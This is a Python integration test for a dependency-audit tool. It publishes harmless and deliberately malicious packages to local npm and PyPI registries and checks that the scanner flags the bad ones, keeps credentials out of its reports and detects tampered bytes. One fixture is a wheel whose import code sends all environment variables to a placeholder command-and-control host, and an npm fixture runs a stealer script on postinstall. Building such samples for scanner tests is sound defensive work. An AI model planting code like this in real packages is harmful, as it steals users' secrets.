"""registries.py - publishes packages with the real clients to verdaccio and pypiserver on loopback, locks them, and lets
ratter audit --scan bring them: with the credential, without, and after the registry changed the bytes."""
import base64
import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
import zipfile

RATTER = os.environ["RATTER"]
PLACE = os.path.abspath(sys.argv[1])
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
number = failures = 0
work = tempfile.mkdtemp(prefix="ratter-registries-")
running = []


def check(name, truth, detail=""):
    global number, failures
    number += 1
    failures += not truth
    print(f"{'ok' if truth else 'not ok'} {number} - {name}")
    if not truth and detail:
        print("#   " + str(detail)[:900].replace("\n", "\n#   "))


def write(path, text):
    path = os.path.join(work, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(text if isinstance(text, bytes) else text.encode())
    return path


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start(port, *command):
    running.append(subprocess.Popen(command, cwd=work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
                                    env={"PATH": os.environ["PATH"], "HOME": work}))
    for _ in range(300):
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"{command[0]} did not come up")


def run(*command, cwd=".", home="home", status=(0,)):
    environment = {"PATH": os.environ["PATH"], "HOME": os.path.join(work, home), "npm_config_update_notifier": "false"}
    for name in ("ASAN_OPTIONS", "UBSAN_OPTIONS"):
        if name in os.environ:
            environment[name] = os.environ[name]
    done = subprocess.run(command, cwd=os.path.join(work, cwd), capture_output=True, env=environment, timeout=120)
    if done.returncode not in status:
        raise RuntimeError(f"{' '.join(command)}: {done.returncode} {done.stderr.decode()[-500:]}")
    return done.stdout.decode("utf-8", "replace")


def audit(project, home="home", *flags):
    text = run(RATTER, "audit", "--intel", "none", "--scan", "-f", "jsonl", *flags, ".", cwd=project, home=home, status=(0, 1, 3))
    return [json.loads(line) for line in text.splitlines()]


def verdicts(reports):
    return {r["artifact"]["path"]: r["verdict"] for r in reports if r["artifact"]["path"].startswith("pkg:")}


def unseen(reports):
    return " | ".join(u["reason"] for r in reports for u in r["unseen"])


def verdaccio():
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    write("verdaccio.yaml", "storage: ./storage\nauth:\n  htpasswd:\n    file: ./htpasswd\nuplinks: {}\npackages:\n  '**':\n    access: $authenticated\n"
          "    publish: $authenticated\nlog: { type: stdout, level: fatal }\n")
    start(port, "node", os.path.join(PLACE, "node_modules", "verdaccio", "bin", "verdaccio"), "--config", "verdaccio.yaml", "--listen", f"127.0.0.1:{port}")
    ask = urllib.request.Request(f"{url}/-/user/org.couchdb.user:tester", method="PUT", headers={"Content-Type": "application/json"},
                                 data=json.dumps({"name": "tester", "password": "a password of ten"}).encode())
    token = json.load(urllib.request.urlopen(ask, timeout=20))["token"]
    write("home/.npmrc", f"registry={url}/\n//127.0.0.1:{port}/:_authToken={token}\n")
    write("stranger/.npmrc", f"registry={url}/\n")
    with open(os.path.join(ROOT, "examples", "npm-stealer", "setup.js"), encoding="utf-8") as f:
        bad = f.read()
    for name, script in (("harmless-of-tests", "module.exports = 1;\n"), ("@tests/stealer", bad)):
        folder = "npm/" + name.replace("/", "-")
        manifest = {"name": name, "version": "1.2.3", "main": "setup.js"}
        if script == bad:
            manifest["scripts"] = {"postinstall": "node setup.js"}
        write(folder + "/package.json", json.dumps(manifest))
        write(folder + "/setup.js", script)
        run("npm", "publish", "--access", "public", cwd=folder)
    write("project/package.json", json.dumps({"name": "project", "dependencies": {"harmless-of-tests": "^1.0.0", "@tests/stealer": "1.2.3"}}))
    run("npm", "install", "--package-lock-only", "--ignore-scripts", "--no-audit", cwd="project")
    shutil.rmtree(os.path.join(work, "home", ".npm"))  # npm's cache is looked into first
    reports = audit("project")
    found = verdicts(reports)
    check("verdaccio: what npm published and locked is brought and examined", found == {"pkg:npm/harmless-of-tests@1.2.3": "clean",
          "pkg:npm/%40tests/stealer@1.2.3": "malicious"}, (found, unseen(reports)))
    check("verdaccio: the token is in no report", token not in json.dumps(reports))
    reports = audit("project", "stranger")
    check("verdaccio: without the credential it refuses, and that is told", not verdicts(reports) and "answers 40" in unseen(reports), unseen(reports))
    path = os.path.join(work, "storage", "harmless-of-tests", "harmless-of-tests-1.2.3.tgz")
    shutil.copy(os.path.join(work, "storage", "@tests", "stealer", "stealer-1.2.3.tgz"), path)
    reports = audit("project", "home", "--no-cache")
    check("verdaccio: bytes that changed on the registry are told, not examined", "pkg:npm/harmless-of-tests@1.2.3" not in verdicts(reports) and
          "serves other bytes" in unseen(reports), (verdicts(reports), unseen(reports)))


def pypiserver():
    from_hashes = {}
    for name, body in (("harmless_tests", "x = 1\n"), ("stealer_tests",
                       "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/x', data=str(dict(os.environ)).encode())\n")):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(f"{name}/__init__.py", body)
            archive.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
            archive.writestr(f"{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            archive.writestr(f"{name}-1.0.dist-info/RECORD", f"{name}/__init__.py,,\n{name}-1.0.dist-info/METADATA,,\n{name}-1.0.dist-info/WHEEL,,\n{name}-1.0.dist-info/RECORD,,\n")
        write(f"wheels/{name}-1.0-py3-none-any.whl", buffer.getvalue())
        from_hashes[name] = hashlib.sha256(buffer.getvalue()).hexdigest()
    write("users", "tester:{SHA}" + base64.b64encode(hashlib.sha1(b"secret word").digest()).decode() + "\n")
    port = free_port()
    start(port, os.path.join(PLACE, "python", "bin", "pypi-server"), "run", "-p", str(port), "-i", "127.0.0.1", "-P", "users", "-a", "list,download,update",
          "--hash-algo", "sha256", "wheels")
    write("home/.config/pip/pip.conf", f"[global]\nindex-url = http://tester:secret%20word@127.0.0.1:{port}/simple/\n")
    write("stranger/.config/pip/pip.conf", f"[global]\nindex-url = http://127.0.0.1:{port}/simple/\n")
    write("python/requirements.txt", "".join(f"{name}==1.0 --hash=sha256:{digest}\n" for name, digest in from_hashes.items()))
    run(os.path.join(PLACE, "python", "bin", "pip"), "download", "--no-deps", "--require-hashes", "-r", "requirements.txt", "-d", "there", cwd="python")
    shutil.rmtree(os.path.join(work, "python", "there"))
    reports = audit("python")
    found = verdicts(reports)
    check("pypiserver: what pip takes by its hashes is brought and examined", found.get("pkg:pypi/harmless-tests@1.0") == "clean" and
          found.get("pkg:pypi/stealer-tests@1.0") in ("malicious", "suspicious"), (found, unseen(reports)))
    check("pypiserver: the password is in no report", not any(word in json.dumps(reports) for word in ("secret word", "secret%20word", "dGVzdGVyOn")))
    reports = audit("python", "stranger")
    check("pypiserver: without the credential it refuses, and that is told", not verdicts(reports) and "answers 401" in unseen(reports), unseen(reports))


try:
    for test in (verdaccio, pypiserver):
        try:
            test()
        except Exception as fault:  # noqa: BLE001 - a test that falls over is a failure with a name
            check(f"{test.__name__} came to its end", False, repr(fault))
finally:
    for process in running:
        process.terminate()
        process.wait(10)
    shutil.rmtree(work, ignore_errors=True)
print(f"1..{number}")
sys.exit(failures > 0)
